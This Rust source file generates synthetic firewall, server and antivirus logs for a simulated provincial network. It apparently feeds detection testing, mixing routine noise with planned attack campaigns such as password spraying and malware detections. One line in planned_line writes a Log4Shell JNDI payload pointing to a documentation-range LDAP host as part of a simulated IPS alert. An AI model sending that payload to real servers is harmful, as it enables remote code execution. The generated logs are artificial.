//! The province's lines in order of time: everyday noise, with the campaigns' lines at their moments.
//!
//! Noise stays below what detection should react to, at any rate: a mistyped password or a blocked probe is limited per
//! simulated second, not per line, so that a faster run has more of everything else instead.

use super::campaign::{DROP_BOX, LISTED, LISTED_TOO, Planned, SCANNER, SPRAYER, Saying};
use super::clock::Clock;
use super::fortigate::{self, Flow};
use super::line::{Line, Random};
use super::province::{Device, Kind, Province, Unit};
use super::{antivirus, cisco_asa, linux, paloalto, pfsense, windows};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

const AGENTS: [&str; 3] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A155F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
];
const PAGES: [(&str, u16); 8] = [
    ("GET /", 200),
    ("GET /tin-tuc", 200),
    ("GET /thu-tuc-hanh-chinh", 200),
    ("GET /assets/main.css", 304),
    ("GET /dich-vu-cong/tra-cuu", 200),
    ("POST /dich-vu-cong/nop-ho-so", 302),
    ("GET /favicon.ico", 404),
    ("GET /van-ban/moi-nhat", 200),
];
/// What the internet knocks on; each outside address knows one of them.
const PROBED: [u16; 6] = [23, 22, 445, 3389, 8080, 5060];
const TYPO_EVERY_MS: u64 = 5_000;
const PROBE_EVERY_MS: u64 = 50;
/// Of 100 lines, by day and by night: web, Windows sign-in, SSH, sudo, VPN, antivirus, ClamAV, probe, mistyped password.
/// The rest are connections.
const DAY: [u64; 9] = [14, 10, 1, 1, 1, 3, 1, 5, 1];
const NIGHT: [u64; 9] = [7, 3, 1, 1, 1, 8, 2, 9, 1];

/// The generator. Deterministic: the same settings give the same bytes.
pub(super) struct Traffic<'a> {
    pub(super) province: &'a Province,
    pub(super) plan: &'a [Planned],
    pub(super) clock: Clock,
    pub(super) random: Random,
    pub(super) start_ms: u64,
    /// Simulated milliseconds from one line to the next.
    pub(super) step_ms: f64,
    pub(super) mark: Option<&'a str>,
    pub(super) outside: Vec<Ipv4Addr>,
    pub(super) number: u64,
    pub(super) typo_due_ms: u64,
    pub(super) probe_due_ms: u64,
    pub(super) typist: usize,
    pub(super) prober: usize,
}

/// Documentation addresses that no campaign uses.
pub(super) fn outside() -> Vec<Ipv4Addr> {
    let nets = [[192, 0, 2], [198, 51, 100], [203, 0, 113]];
    let all = nets.into_iter().flat_map(|[a, b, c]| (1..255).map(move |d| Ipv4Addr::new(a, b, c, d)));
    all.filter(|address| ![SPRAYER, SCANNER, LISTED, LISTED_TOO, DROP_BOX].contains(address)).collect()
}

impl Traffic<'_> {
    /// Appends the next line, without a line end, and tells which device wrote it.
    pub(super) fn next(&mut self, out: &mut Vec<u8>) -> usize {
        #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss, clippy::cast_precision_loss)]
        // A product of positive numbers far below 2^53.
        let now_ms = self.start_ms + (self.number as f64 * self.step_ms) as u64;
        self.number += 1;
        if let Some((planned, rest)) = self.plan.split_first()
            && planned.at_ms <= now_ms
        {
            self.plan = rest;
            self.clock.set(planned.at_ms);
            let unit = &self.province.units[planned.unit];
            return planned_line(&mut self.line(out), self.province, unit, &planned.saying);
        }
        self.clock.set(now_ms);
        self.noise(out, now_ms)
    }

    fn line<'l>(&'l self, out: &'l mut Vec<u8>) -> Line<'l> {
        Line { out, clock: &self.clock, number: self.number, mark: self.mark }
    }

    fn noise(&mut self, out: &mut Vec<u8>, now_ms: u64) -> usize {
        let weights = if (7..18).contains(&self.clock.hour_local()) { &DAY } else { &NIGHT };
        let mut draw = self.random.below(100);
        let kind = weights.iter().position(|weight| {
            let hit = draw < *weight;
            draw = draw.saturating_sub(*weight);
            hit
        });
        let province = self.province;
        let unit = self.random.pick(&province.units);
        match kind {
            Some(7) if now_ms >= self.probe_due_ms => {
                self.probe_due_ms = now_ms + PROBE_EVERY_MS;
                self.probe(out, unit)
            }
            Some(8) if now_ms >= self.typo_due_ms => {
                self.typo_due_ms = now_ms + TYPO_EVERY_MS;
                self.typo(out)
            }
            Some(kind) if kind < 7 => self.host(out, unit, kind),
            _ => self.connection(out, unit),
        }
    }

    /// Lines of servers and consoles.
    fn host(&mut self, out: &mut Vec<u8>, unit: &Unit, kind: usize) -> usize {
        let devices = &self.province.devices;
        let endpoint = self.random.pick(&unit.endpoints);
        let visitor = IpAddr::V4(*self.random.pick(&self.outside));
        let (request, status) = *self.random.pick(&PAGES);
        let agent = *self.random.pick(&AGENTS);
        let inside = IpAddr::V4(endpoint.address);
        // Who works from home does so from one address.
        let home = IpAddr::V4(self.outside[endpoint.address.to_bits() as usize % self.outside.len()]);
        let line = &mut self.line(out);
        let device = match (kind, unit.portal) {
            (0, Some(portal)) => &devices[portal],
            (1, _) => &devices[unit.windows],
            (4, _) => &devices[unit.firewall],
            (5, _) => &devices[unit.antivirus],
            (6, _) => &devices[unit.share],
            _ => &devices[unit.server],
        };
        match (kind, device.kind) {
            (0, Kind::Portal) => linux::web(line, device, visitor, request, status, agent),
            (1, _) => windows::logon(line, device, &endpoint.user, inside, &endpoint.name, true),
            (4, Kind::FortiGate) => fortigate::vpn(line, device, &endpoint.user, home, true),
            (0 | 4, _) => return self.connection(out, unit),
            (5, Kind::Kaspersky) => antivirus::kaspersky_update(line, device, endpoint),
            (5, _) => antivirus::eset_update(line, device, endpoint),
            (6, _) => linux::self_check(line, device),
            (3, _) => linux::sudo(line, device, "quantri"),
            _ => linux::ssh(line, device, "quantri", inside, true),
        }
        device.index
    }

    /// A connection from inside to outside.
    fn connection(&mut self, out: &mut Vec<u8>, unit: &Unit) -> usize {
        let device = &self.province.devices[unit.firewall];
        let random = &mut self.random;
        let v4 = *random.pick(&self.outside);
        // Every sixteenth is IPv6, where the firewall's lines have room for it.
        let v6 = device.kind == Kind::FortiGate && random.below(16) == 0;
        let host = 10 + u16::try_from(random.below(60)).unwrap_or(0);
        let [_, second, ..] = device.address.octets();
        let (source, destination) = if v6 {
            let net = |site, host| IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, site, 0, 0, 0, 0, host));
            (net(u16::from(second), host), net(0xffff, u16::from(v4.octets()[3])))
        } else {
            (IpAddr::V4(random.pick(&unit.endpoints).address), IpAddr::V4(v4))
        };
        let destination_port = [443, 443, 443, 443, 80, 53, 123][random.index(7)];
        let flow = Flow {
            source,
            source_port: random.port(),
            destination,
            destination_port,
            sent: 200 + random.size(12),
            received: 300 + random.size(16),
            seconds: random.below(180),
            inbound: false,
        };
        let built = random.below(2) == 0;
        let line = &mut self.line(out);
        match device.kind {
            Kind::PaloAlto => paloalto::traffic(line, device, &flow, true),
            Kind::CiscoAsa if built => cisco_asa::built(line, device, &flow),
            Kind::CiscoAsa => cisco_asa::teardown(line, device, &flow),
            Kind::PfSense => pfsense::packet(line, device, &flow, true),
            _ => fortigate::accept(line, device, &flow),
        }
        device.index
    }

    /// The internet knocks; the firewall does not open.
    fn probe(&mut self, out: &mut Vec<u8>, unit: &Unit) -> usize {
        self.prober = (self.prober + 1) % self.outside.len();
        let device = &self.province.devices[unit.firewall];
        let flow = Flow {
            source: IpAddr::V4(self.outside[self.prober]),
            source_port: self.random.port(),
            destination: IpAddr::V4(device.address),
            destination_port: PROBED[self.prober % PROBED.len()],
            sent: 0,
            received: 0,
            seconds: 0,
            inbound: true,
        };
        deny(&mut self.line(out), device, &flow);
        device.index
    }

    /// Somebody mistypes a password, once; each in turn, so that nobody does it often.
    fn typo(&mut self, out: &mut Vec<u8>) -> usize {
        self.typist += 1;
        let unit = &self.province.units[self.typist % self.province.units.len()];
        let endpoint = &unit.endpoints[self.typist / self.province.units.len() % unit.endpoints.len()];
        let from = IpAddr::V4(endpoint.address);
        let windows = !self.typist.is_multiple_of(4);
        let device = &self.province.devices[if windows { unit.windows } else { unit.server }];
        let line = &mut self.line(out);
        if windows {
            windows::logon(line, device, &endpoint.user, from, &endpoint.name, false);
        } else {
            linux::ssh(line, device, &endpoint.user, from, false);
        }
        device.index
    }
}

fn deny(line: &mut Line<'_>, device: &Device, flow: &Flow) {
    match device.kind {
        Kind::PaloAlto => paloalto::traffic(line, device, flow, false),
        Kind::CiscoAsa => cisco_asa::deny(line, device, flow),
        Kind::PfSense => pfsense::packet(line, device, flow, false),
        _ => fortigate::deny(line, device, flow),
    }
}

fn planned_line(line: &mut Line<'_>, province: &Province, unit: &Unit, saying: &Saying) -> usize {
    const MALWARE: &str = "HEUR:Trojan.Win32.Generic";
    let device = &province.devices[match saying {
        Saying::Vpn { .. } | Saying::Deny(_) | Saying::Accept(_) | Saying::Attack(_) => unit.firewall,
        Saying::Ssh { .. } => unit.server,
        Saying::Found { .. } => unit.antivirus,
        Saying::FoundOnShare => unit.share,
        Saying::Exploit(_) => unit.portal.unwrap_or(unit.server),
    }];
    match saying {
        Saying::Vpn { user, ok } => fortigate::vpn(line, device, user, IpAddr::V4(SPRAYER), *ok),
        Saying::Ssh { user, ok } => linux::ssh(line, device, user, IpAddr::V4(SPRAYER), *ok),
        Saying::Found { endpoint } if device.kind == Kind::Kaspersky => {
            antivirus::kaspersky_found(line, device, &unit.endpoints[*endpoint], MALWARE);
        }
        Saying::Found { endpoint } => {
            antivirus::eset_found(line, device, &unit.endpoints[*endpoint], "Win32/Agent.AFXB");
        }
        Saying::FoundOnShare => linux::found(line, device, "van-ban-den", "Doc.Downloader.Generic-9912345-0"),
        Saying::Deny(flow) => deny(line, device, flow),
        Saying::Accept(flow) => fortigate::accept(line, device, flow),
        Saying::Exploit(request) => linux::web(line, device, IpAddr::V4(SCANNER), request, 403, "curl/8.5.0"),
        Saying::Attack(flow) => {
            let name = "Apache.Log4j.Error.Log.Remote.Code.Execution";
            fortigate::attack(line, device, flow, name, "/?x=${jndi:ldap://198.51.100.77:1389/a}");
        }
    }
    device.index
}
